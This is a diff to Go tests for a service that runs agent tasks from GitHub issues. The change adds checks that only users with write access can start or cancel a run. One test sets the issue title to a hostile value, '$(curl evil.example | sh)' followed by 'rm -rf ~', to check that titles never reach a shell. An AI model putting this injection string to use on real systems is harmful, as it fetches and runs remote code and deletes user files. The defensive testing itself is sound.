@@ -54,7 +54,7 @@ func TestHandleIssue(t *testing.T) {
 	hostile := `$(curl evil.example | sh) "; rm -rf ~ #`
 	ev := func(delivery string, mod func(*IssueEvent)) IssueEvent {
 		e := IssueEvent{Delivery: delivery, Repo: "octo/hello", InstallationID: 7, Issue: 12, Title: hostile, Body: "fix it",
-			Sender: "someone", CloneURL: "https://github.com/octo/hello.git", DefaultBranch: "main"}
+			Sender: "maintainer", CloneURL: "https://github.com/octo/hello.git", DefaultBranch: "main"}
 		if mod != nil {
 			mod(&e)
 		}
@@ -66,11 +66,15 @@ func TestHandleIssue(t *testing.T) {
 		action string
 	}{
 		{"a repository not allowed", ev("d0", func(e *IssueEvent) { e.Repo = "evil/repo" }), "ignored"},
-		{"a comment by someone who cannot write", ev("d1", func(e *IssueEvent) { e.ByComment = true }), "ignored"},
+		{"a comment by someone who cannot write", ev("d1", func(e *IssueEvent) { e.ByComment, e.Sender = true, "someone" }), "ignored"},
+		// GitHub lets triage label; sandstep's rule is write and above.
+		{"the label by someone who cannot write", ev("d1b", func(e *IssueEvent) { e.Sender = "triager" }), "ignored"},
 		{"the label", ev("d2", nil), "started"},
 		{"the same delivery again", ev("d2", nil), "started"},
-		{"a comment by a maintainer while it runs", ev("d3", func(e *IssueEvent) { e.ByComment, e.Sender = true, "maintainer" }), "busy"},
+		{"a comment by a maintainer while it runs", ev("d3", func(e *IssueEvent) { e.ByComment = true }), "busy"},
 		{"another issue", ev("d4", func(e *IssueEvent) { e.Issue = 13 }), "started"},
+		{"the label removed by someone who cannot write", ev("d4b", func(e *IssueEvent) { e.Cancel, e.Sender = true, "triager" }), "ignored"},
+		{"a cancel comment by someone who cannot write", ev("d4c", func(e *IssueEvent) { e.Cancel, e.ByComment, e.Sender = true, true, "someone" }), "ignored"},
 		{"cancel", ev("d5", func(e *IssueEvent) { e.Cancel = true }), "cancelled"},
 		{"cancel again", ev("d6", func(e *IssueEvent) { e.Cancel = true }), "ignored"},
 	}
@@ -130,10 +134,10 @@ func TestIssueComment(t *testing.T) {
 	ctx := context.Background()
 	h := newFaultHarness(t, 5)
 	h.svc.repos = fakeRepos{"octo/hello": {Command: "./agent.sh", TimeoutSeconds: 600}}
-	h.svc.collaborators = fakeCollaborators{}
+	h.svc.collaborators = fakeCollaborators{"maintainer": true}
 	comments := &fakeComments{bodies: map[int64]string{}}
 	h.svc.comments = comments
-	out, err := h.svc.HandleIssue(ctx, IssueEvent{Delivery: "d1", Repo: "octo/hello", InstallationID: 7, Issue: 3})
+	out, err := h.svc.HandleIssue(ctx, IssueEvent{Delivery: "d1", Repo: "octo/hello", InstallationID: 7, Issue: 3, Sender: "maintainer"})
 	if err != nil || out.Action != "started" {
 		t.Fatalf("HandleIssue = %+v, %v", out, err)
 	}
@@ -149,7 +153,7 @@ func TestIssueComment(t *testing.T) {
 	}
 
 	comments.fail = true
-	out, err = h.svc.HandleIssue(ctx, IssueEvent{Delivery: "d2", Repo: "octo/hello", InstallationID: 7, Issue: 4})
+	out, err = h.svc.HandleIssue(ctx, IssueEvent{Delivery: "d2", Repo: "octo/hello", InstallationID: 7, Issue: 4, Sender: "maintainer"})
 	if err != nil || out.Action != "started" {
 		t.Errorf("with GitHub down: %+v, %v; want the task started all the same", out, err)
 	}
@@ -191,12 +195,12 @@ func TestIssueCommentBeforeExecution(t *testing.T) {
 			ctx := context.Background()
 			h := newFaultHarness(t, 5)
 			h.svc.repos = fakeRepos{"octo/hello": {Command: "./agent.sh", TimeoutSeconds: 600}}
-			h.svc.collaborators = fakeCollaborators{}
+			h.svc.collaborators = fakeCollaborators{"maintainer": true}
 			comments := &fakeComments{bodies: map[int64]string{}}
 			h.svc.comments = comments
 			m := &startWatcher{tasks: h.store, fail: tt.fail}
 			h.svc.machine = m
-			_, err := h.svc.HandleIssue(ctx, IssueEvent{Delivery: "d1", Repo: "octo/hello", InstallationID: 7, Issue: 3})
+			_, err := h.svc.HandleIssue(ctx, IssueEvent{Delivery: "d1", Repo: "octo/hello", InstallationID: 7, Issue: 3, Sender: "maintainer"})
 			if (err != nil) != tt.fail {
 				t.Fatalf("HandleIssue: %v", err)
 			}
